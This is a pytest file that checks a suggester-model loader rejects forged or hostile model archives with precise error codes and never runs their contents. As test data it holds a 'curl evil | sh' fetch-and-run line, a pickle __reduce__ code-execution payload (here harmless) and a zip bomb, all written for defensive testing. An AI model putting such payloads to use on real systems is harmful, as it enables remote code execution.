"""Forged, broken and hostile suggester model files through ``models.persistence.load_model``.

The loader reads a file and never touches the store, so there is no store to count here; what
matters is that every file is refused with its exact code before anything in it is built, and
that nothing in it ever runs.
"""

from __future__ import annotations

import functools
import hashlib
import io
import json
import pickle
import zipfile
from fractions import Fraction
from pathlib import Path

import pytest
import skops.io as sio

from corpus.tokenize import Tokenizer
from hostile.checks import within_deadline
from hostile.files import bomb_entry, members, patched, raw_zip, stored, truncated
from i18n import BianmaError
from models.cold_start import CodebookEntry, CodebookMatcher
from models.persistence import codebook_hash, load_model, save_model

DICTIONARY = "d41d8cd98f00b204"
CODES = ("需求/就业", "需求/住房")


@functools.cache
def model_file() -> bytes:
    """A real, loadable model file (the cold-start matcher, quick to fit)."""
    import tempfile

    matcher = CodebookMatcher().fit(
        [CodebookEntry(CODES[0], keywords=("找工作",)), CodebookEntry(CODES[1], keywords=("房租",))],
        Tokenizer())
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "模型.bianma"
        save_model(matcher, path, codebook_hash=codebook_hash(CODES), dictionary_version=DICTIONARY)
        return path.read_bytes()


def meta() -> dict:
    return json.loads(members(model_file())["meta.json"])


def rebuilt(*, meta_changes: dict | None = None, model: bytes | None = None, fix_hash: bool = True,
            extra: dict[str, bytes] | None = None) -> bytes:
    """The model file with its metadata or payload replaced (the hash recomputed, as a forger
    who read the format would)."""
    parts = members(model_file())
    fields = meta()
    if model is not None:
        parts["model.skops"] = model
        if fix_hash:
            fields["model_sha256"] = hashlib.sha256(model).hexdigest()
    fields.update(meta_changes or {})
    parts["meta.json"] = json.dumps(fields, ensure_ascii=False).encode("utf-8")
    parts.update(extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


class _Boom:
    """What a malicious pickle would run on load: here it only writes a marker file."""

    marker: Path

    def __reduce__(self):
        return (Path.write_text, (self.marker, "ran"))


def pickled_payload(marker: Path) -> bytes:
    boom = _Boom()
    boom.marker = marker
    return pickle.dumps({"params": {}, "state": {"classes_": boom}})


def untrusted_skops() -> bytes:
    """A genuine skops file whose state holds a type outside skops' trusted set."""
    return sio.dumps({"params": {}, "state": {"classes_": [Fraction(1, 3)]}})


def case(name: str, make, code: str):
    return pytest.param(make, code, id=name)

CASES = [
    case("not a zip", lambda tmp: b"model.skops " * 100, "E722"),
    case("empty", lambda tmp: b"", "E722"),
    case("truncated", lambda tmp: truncated(model_file()), "E722"),
    case("extra member", lambda tmp: rebuilt(extra={"run.sh": b"curl evil | sh"}), "E722"),
    case("meta.json not JSON", lambda tmp: rebuilt(extra={"meta.json": b"{kind: "}), "E722"),
    case("meta.json a list", lambda tmp: rebuilt(extra={"meta.json": b"[1, 2]"}), "E722"),
    case("meta.json missing a field", lambda tmp: rebuilt(extra={"meta.json": json.dumps(
        {k: v for k, v in meta().items() if k != "codes"}).encode()}), "E722"),
    case("meta.json over 64 KiB", lambda tmp: rebuilt(meta_changes={"padding": "长" * 30000}), "E722"),
    case("unknown kind", lambda tmp: rebuilt(meta_changes={"kind": "remote-shell"}), "E722"),
    case("wrong hash", lambda tmp: rebuilt(meta_changes={"model_sha256": "0" * 64}), "E722"),
    case("model changed, hash not", lambda tmp: rebuilt(model=untrusted_skops(), fix_hash=False), "E722"),
    case("skops naming an untrusted type", lambda tmp: rebuilt(model=untrusted_skops()), "E723"),
    case("pickle posing as skops", lambda tmp: rebuilt(model=pickled_payload(tmp / "ran.txt")), "E722"),
    case("skops payload of another shape", lambda tmp: rebuilt(model=sio.dumps([1, 2, 3])), "E722"),
    case("other scikit-learn version", lambda tmp: rebuilt(meta_changes={"sklearn_version": "0.24.2"}),
         "E724"),
    case("other codebook", lambda tmp: rebuilt(meta_changes={"codebook_hash": "ffffffffffffffff"}), "E725"),
    case("other dictionary", lambda tmp: rebuilt(meta_changes={"dictionary_version": "0" * 16}), "E726"),
    case("zip bomb, model.skops over 1 GiB", lambda tmp: raw_zip([
        stored("meta.json", members(model_file())["meta.json"]), bomb_entry("model.skops", 1025)]),
         "E722"),
    case("kind of the wrong type", lambda tmp: rebuilt(meta_changes={"kind": ["code-suggester"]}), "E722"),
    case("format version a string", lambda tmp: rebuilt(meta_changes={"format_version": "1"}), "E722"),
    case("format version true", lambda tmp: rebuilt(meta_changes={"format_version": True}), "E722"),
    case("codes not strings", lambda tmp: rebuilt(meta_changes={"codes": [1, 2]}), "E722"),
    case("hash a number", lambda tmp: rebuilt(meta_changes={"model_sha256": 0}), "E722"),
    case("encrypted member", lambda tmp: patched(model_file(), "meta.json", flags=0x1), "E722"),
    case("unknown compression", lambda tmp: patched(model_file(), "meta.json", method=99), "E722"),
    case("corrupt member (bad CRC)", lambda tmp: corrupt_crc(), "E722"),
]


def corrupt_crc() -> bytes:
    data = bytearray(model_file())
    at = data.index(b'"format_version"')
    data[at + 1] = ord("F")  # one byte of the stored meta.json changed, the CRC left as it was
    return bytes(data)


@pytest.mark.parametrize("make, code", CASES)
def test_a_forged_or_broken_model_file_is_refused(tmp_path, make, code):
    path = tmp_path / "别人给的模型.bianma"
    path.write_bytes(make(tmp_path))
    with pytest.raises(BianmaError) as caught:
        within_deadline(lambda: load_model(path, codebook_hash=codebook_hash(CODES),
                                           dictionary_version=DICTIONARY))
    assert caught.value.code == code, str(caught.value)
    assert str(path) in caught.value.message("zh") and str(path) in caught.value.message("en")
    assert not (tmp_path / "ran.txt").exists()  # nothing in the file ever ran


def test_a_missing_model_file(tmp_path):
    with pytest.raises(BianmaError) as caught:
        load_model(tmp_path / "没有这个文件.bianma")
    assert caught.value.code == "E721"


def test_the_file_the_forgeries_start_from_loads(tmp_path):
    path = tmp_path / "模型.bianma"
    path.write_bytes(model_file())
    model = load_model(path, codebook_hash=codebook_hash(CODES), dictionary_version=DICTIONARY)
    assert list(model.classes_) == list(CODES)
